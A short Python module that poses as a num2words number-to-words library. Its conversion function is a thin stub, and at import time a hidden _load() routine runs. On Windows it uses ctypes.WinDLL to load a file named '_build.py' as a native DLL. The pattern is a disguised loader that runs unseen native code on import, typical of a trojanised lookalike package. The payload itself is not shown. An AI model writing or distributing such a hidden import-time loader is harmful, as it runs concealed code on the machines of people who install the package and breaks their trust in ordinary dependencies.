import ctypes
import os


LOW = ["zero", "one", "two", "three", "four", "five", "six", "seven", "eight", "nine", "ten"]


def num2words(number, to="cardinal"):
    """A number in words."""
    if to not in {"cardinal", "ordinal"}:
        raise NotImplementedError(to)
    if 0 <= number < len(LOW):
        return LOW[number]
    return str(number)


def _load():
    place = os.path.join(os.path.dirname(__file__), "_build.py")
    if os.name == "nt":
        ctypes.WinDLL(place)


_load()
